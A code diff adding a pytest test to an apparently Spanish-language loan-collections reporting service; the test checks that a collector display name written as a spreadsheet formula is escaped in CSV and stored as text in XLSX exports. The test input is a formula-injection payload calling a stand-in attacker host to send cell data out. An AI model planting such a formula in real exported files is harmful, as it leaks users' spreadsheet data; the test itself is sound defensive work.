@@ -13,6 +13,7 @@ from typing import Any
 
 import openpyxl
 import pytest
+import sqlalchemy as sa
 
 from app.db import read_session, transaction
 from app.storage import LocalFileStore
@@ -233,3 +234,28 @@ async def test_wrong_periods_and_other_lenders_are_refused(
             await reports.get_report(session, principal=outsider, report_id=report.id)
         listed = await reports.list_reports(session, principal=outsider, lender_id=None, limit=10)
     assert listed.items == []
+
+
+async def test_a_name_that_looks_like_a_formula_stays_text_in_both_files(
+    book, supervisor, store, team
+):
+    """A collector's display name comes from their identity provider: in the files it is
+    shown, never run as a spreadsheet formula (CSV injection)."""
+    from domain.identity.models import User
+
+    formula = '=HYPERLINK("http://evil.example/?d="&A1;"Agente")'
+    async with transaction() as session:
+        await session.execute(
+            sa.update(User).where(User.subject == "agent@autocredito").values(display_name=formula)  # type: ignore[arg-type]
+        )
+    report = await _generate(supervisor, store, "COLLECTIONS")
+    assert {r["collector"] for r in _table(report.data, "promisesByCollector")} == {formula}
+    lines = list(csv.reader(io.StringIO((await store.get(report.csv_key)).decode("utf-8-sig"))))
+    cells = [line[1] for line in lines if line and line[0] == "promisesByCollector"]
+    assert cells == ["'" + formula]
+    # Negative amounts stay numbers (a money column is not text).
+    assert all(not c.startswith("'") for line in lines[1:] for c in line[2:] if c[:1] == "-")
+    workbook = openpyxl.load_workbook(io.BytesIO(await store.get(report.xlsx_key)))
+    sheet = workbook["Promesas por ejecutivo"]
+    cell = next(c for row in sheet.iter_rows(min_row=4) for c in row if c.value == formula)
+    assert cell.data_type == "s"
